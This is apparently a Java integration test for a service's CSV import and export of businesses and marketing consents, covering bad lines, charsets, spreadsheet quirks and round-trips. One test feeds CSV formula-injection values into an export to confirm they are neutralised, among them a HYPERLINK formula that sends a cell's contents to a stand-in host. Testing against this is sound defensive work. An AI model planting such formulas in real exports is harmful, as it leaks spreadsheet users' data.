package io.tollgate.administration;

import static org.assertj.core.api.Assertions.assertThat;

import io.tollgate.TollgateTest;
import io.tollgate.administration.Office.Answer;
import io.tollgate.business.Businesses;
import io.tollgate.csv.CsvWriter;
import java.nio.charset.Charset;
import java.nio.file.Path;
import java.util.List;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.beans.factory.annotation.Value;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.jdbc.core.JdbcTemplate;

@TollgateTest
class ImportsTest {

    private static final String CONSENTS = "to,business,purpose,channel,type,at,expires,method,proof\n";
    private static final String BUSINESSES = "handle,name,plan,currency,zone,payment,creditLimit,pilotLastDay,pilotAllowance\n";

    private static final Charset WINDOWS = Charset.forName("windows-1252");

    @LocalServerPort int port;
    @Value("${tollgate.data}") Path data;
    @Autowired Businesses businesses;
    @Autowired JdbcTemplate database;

    private Office office;

    @BeforeEach
    void openTheOffice() {
        office = Office.at(port, data);
    }

    @Test
    void importsBusinessesAndTheSecondTimeChangesNothing() {
        String file = BUSINESSES + """
                imp-air,Air,ENTERPRISE,USD,America/New_York,POSTPAID,1000,,
                imp-bakery,"Bakery ""Sun"", Lisbon",PILOT,EUR,Europe/Lisbon,PREPAID,,2026-12-31,500
                """;

        assertReport(office.csv("/businesses/import", file), 2, 2, 0);
        var before = businesses.all();
        assertReport(office.csv("/businesses/import", file), 2, 2, 0);

        assertThat(businesses.all()).containsAll(before).hasSameSizeAs(before);
        assertThat(businesses.byHandle("imp-bakery").orElseThrow().name()).isEqualTo("Bakery \"Sun\", Lisbon");
        assertThat(businesses.byHandle("imp-bakery").orElseThrow().pilot()).isPresent();
        office.post("/businesses/imp-air/token", "{}").is(200);
    }

    @Test
    void importsConsentsAndTheSecondTimeChangesNothing() {
        shop("imp-shop");
        String file = CONSENTS + IntStream.range(0, 2_500).mapToObj("+3519130%05d,imp-shop,MARKETING,,CONFIRMED,2026-03-01T10:00:00Z,,form,Yes"::formatted)
                .collect(Collectors.joining("\n"));

        assertReport(office.csv("/consents/import", file), 2_500, 2_500, 0);
        assertReport(office.csv("/consents/import", file), 2_500, 2_500, 0);

        assertThat(consentsOf("imp-shop")).isEqualTo(2_500);
    }

    @Test
    void reportsBadLinesWithTheirNumberAndGoesOn() {
        shop("imp-bad");
        String good = ",imp-bad,MARKETING,MESSENGER,GIVEN,2026-03-01T10:00:00Z,,form,Yes\n";
        String file = "\uFEFF" + CONSENTS
                + "+351914000001" + good
                + "12345" + good
                + "+351914000002,nobody,MARKETING,MESSENGER,GIVEN,2026-03-01T10:00:00Z,,form,Yes\n"
                + "\n"
                + "+351914000003,imp-bad,MARKETING,MESSENGER,GIVEN,2026-03-01T10:00:00Z,,form,\"two\nlines\"\n"
                + "+351914000004,imp-bad,MARKETING,MESSENGER,GIVEN,,,form,Yes\n"
                + "+351914000005,imp-bad,MARKETING\n"
                + "+351914000006,imp-bad,MARKETING,MESSENGER,GIVEN,2026-03-01T10:00:00Z,,form,+351914000006\n"
                + "+351914000007" + good;

        Answer report = office.csv("/consents/import", file);

        assertReport(report, 8, 3, 5);
        assertThat(report.json().path("faults").toString()).isEqualTo("""
                [{"line":3,"reason":"to is no phone number. Maybe write it in full, with + and the country's code."},\
                {"line":4,"reason":"business is no handle of a business. Maybe enrol it first."},\
                {"line":8,"reason":"at is missing. Maybe it is spelt differently."},\
                {"line":9,"reason":"The line has 3 columns, the header 9. Maybe commas in a text are not in quotation marks, or cells are missing."},\
                {"line":10,"reason":"proof must not repeat the person's number. Maybe refer to the record by its id."}]""");
        assertThat(report.body()).doesNotContain("91400000");
        assertThat(consentsOf("imp-bad")).isEqualTo(3);
    }

    @Test
    void takesWhatIsBeforeAQuotationMarkThatIsNeverClosed() {
        shop("imp-broken");
        String file = CONSENTS + "+351915000001,imp-broken,MARKETING,MESSENGER,GIVEN,2026-03-01T10:00:00Z,,form,Yes\n"
                + "+351915000002,imp-broken,MARKETING,MESSENGER,GIVEN,2026-03-01T10:00:00Z,,form,\"Yes\n";

        Answer report = office.csv("/consents/import", file).is(200);

        assertThat(report.json().path("complete").asBoolean()).isFalse();
        assertThat(report.json().path("taken").asInt()).isEqualTo(1);
        assertThat(report.json().path("faults").toString()).contains("\"line\":3", "From here on the file is no CSV");
        assertThat(consentsOf("imp-broken")).isEqualTo(1);
    }

    /** Saved by a spreadsheet in the code page of Windows: what she read, or nothing. */
    @Test
    void readsTheCharsetOfTheRequestAndGuessesAtNothing() {
        shop("imp-page");
        byte[] file = (CONSENTS + "+351915100001,imp-page,MARKETING,MESSENGER,GIVEN,2026-03-01T10:00:00Z,,form,Yes\n"
                + "+351915100002,imp-page,MARKETING,MESSENGER,GIVEN,2026-03-01T10:00:00Z,,form,Ja f\u00FCr Br\u00F6tchen \u2013 t\u00E4glich\n").getBytes(WINDOWS);

        Answer guessed = office.bytes("/consents/import", "text/csv", file).is(200);
        assertThat(guessed.json().path("faults").toString()).contains("\"line\":3", "The file is no text in UTF-8: line 3, byte 218.", "charset=windows-1252");
        assertThat(guessed.json().path("taken").asInt()).isEqualTo(1);
        assertThat(guessed.json().path("complete").asBoolean()).isFalse();
        assertThat(consentsOf("imp-page")).isEqualTo(1);

        assertReport(office.bytes("/consents/import", "text/csv; charset=windows-1252", file), 2, 2, 0);
        assertThat(proofs("imp-page")).containsExactlyInAnyOrder("Yes", "Ja f\u00FCr Br\u00F6tchen \u2013 t\u00E4glich");
        office.bytes("/consents/import", "text/csv; charset=nowhere-1", file).is(415);
        office.bytes("/businesses/import", "text/csv", "h\u00E4ndle,name\n".getBytes(WINDOWS)).problem(400, "invalid-field", "no text in UTF-8: line 1, byte 2.");
    }

    @Test
    void refusesATextThatWasDamagedBefore() {
        shop("imp-damage");
        String start = ",imp-damage,MARKETING,MESSENGER,GIVEN,2026-03-01T10:00:00Z,,form,";

        Answer report = office.csv("/consents/import", CONSENTS + "+351915200001" + start + "f\uFFFDr\n+351915200002" + start + "x \u0096 y\n+351915200003" + start + "f\u00FCr\n");

        assertReport(report, 3, 1, 2);
        assertThat(report.json().path("faults").toString()).contains("proof has the character U+FFFD", "proof has the control character U+0096", "windows-1252");
        office.post("/consents", "{'to':'+351915200001','business':'imp-damage','purpose':'MARKETING','type':'GIVEN','method':'form','proof':'f\uFFFDr'}")
                .problem(400, "invalid-field", "proof has the character U+FFFD");
        office.post("/consents", "{'to':'+351915200001','business':'imp-damage','purpose':'MARKETING','type':'GIVEN','method':'form','proof':'cut \\ud83d'}")
                .problem(400, "invalid-field", "half a character");
    }

    /** Semicolons and what else spreadsheets do: see CsvFileTest. */
    @Test
    void readsAFileOfASpreadsheetAndTellsWhichColumnsItPassedOver() {
        shop("imp-excel");

        Answer report = office.csv("/consents/import", "sep=;\r\nTO;Business;purpose;channel;type;at;expires;method;proof;Remark;;\r\n"
                + "'+351915300001;imp-excel;MARKETING;;GIVEN;2026-03-01T10:00:00Z;;form;Yes, please;hers;;\r\n;;;;;;;;;;;\r\n");

        assertReport(report, 1, 1, 0);
        assertThat(report.json().path("ignoredColumns").toString()).isEqualTo("[\"Remark\"]");
        assertThat(proofs("imp-excel")).containsExactly("Yes, please");
    }

    /** What a stranger gave is no formula in the export, and the import reads it as it was. */
    @Test
    void takesBackItsOwnExportUnchanged() {
        shop("imp-round");
        List<String> texts = List.of("=HYPERLINK(\"http://x.example?\"&A1,\"click\")", "@SUM(1)", "-2+3", "+1", "'=1", "''+1", "a;=1+1;b", "two\n- lines", "\uFF1D1", "it's, \"so\"", "tab\t=1");
        StringBuilder file = new StringBuilder();
        CsvWriter lines = new CsvWriter(file, ConsentBody.ALL_COLUMNS);
        for (int i = 0; i < texts.size(); i++) {
            lines.line("+3519154000" + (10 + i), "imp-round", "MARKETING", "MESSENGER", "GIVEN", "2026-03-01T10:00:00Z", "", texts.get(i), texts.get(i), "CONSENT", "", "",
                    texts.get(i), "", texts.get(i), "", "", "", "");
        }
        assertReport(office.csv("/consents/import", file.toString()), texts.size(), texts.size(), 0);

        String export = office.get("/consents/export?business=imp-round").is(200).body();
        assertThat(export).contains(",'@SUM(1),'@SUM(1),", ",'=1".replace(",'", ",''")).doesNotContainPattern("(?m)(^|,)\"?[=+\\-@]");
        database.update("DELETE consent FROM consent JOIN business ON business.id = business_id WHERE handle = 'imp-round'");
        assertReport(office.csv("/consents/import", export), texts.size(), texts.size(), 0);

        assertThat(proofs("imp-round")).containsExactlyInAnyOrderElementsOf(texts);
        assertThat(office.get("/consents/export?business=imp-round").body()).isEqualTo(export);
    }

    @Test
    void refusesAFileWhoseHeaderIsAnother() {
        office.csv("/consents/import", "to,business\n+351912345678,x\n").problem(400, "invalid-field", "The first line lacks purpose, channel");
        office.csv("/consents/import", "to," + CONSENTS).problem(400, "invalid-field", "each column once");
        office.csv("/consents/import", "").problem(400, "invalid-field", "The first line lacks");
        office.send("POST", "/consents/import", "application/json", "{}").is(415);
        office.with("").csv("/consents/import", CONSENTS).problem(401, "no-token", "Bearer");
    }

    @Test
    void refusesAnotherCurrencyForABusinessThatIsThere() {
        shop("imp-currency");

        Answer report = office.csv("/businesses/import", BUSINESSES + "imp-currency,Shop,ENTERPRISE,USD,Europe/Lisbon,PREPAID,,,\n");

        assertReport(report, 1, 0, 1);
        assertThat(report.body()).contains("currency must stay EUR");
    }

    private void shop(String handle) {
        assertReport(office.csv("/businesses/import", BUSINESSES + handle + ",Shop,ENTERPRISE,EUR,Europe/Lisbon,PREPAID,,,\n"), 1, 1, 0);
    }

    private List<String> proofs(String handle) {
        return database.queryForList("SELECT text FROM consent JOIN business ON business.id = business_id JOIN consent_wording shown ON shown.id = wording WHERE handle = ?",
                String.class, handle);
    }

    private int consentsOf(String handle) {
        return database.queryForList("SELECT COUNT(*) FROM consent JOIN business ON business.id = business_id WHERE handle = ?", Integer.class, handle).getFirst();
    }

    private static void assertReport(Answer answer, int read, int taken, int refused) {
        answer.is(200);
        assertThat(answer.json().path("read").asInt()).as(answer.body()).isEqualTo(read);
        assertThat(answer.json().path("taken").asInt()).as(answer.body()).isEqualTo(taken);
        assertThat(answer.json().path("refused").asInt()).as(answer.body()).isEqualTo(refused);
        assertThat(answer.json().path("complete").asBoolean()).as(answer.body()).isTrue();
    }
}
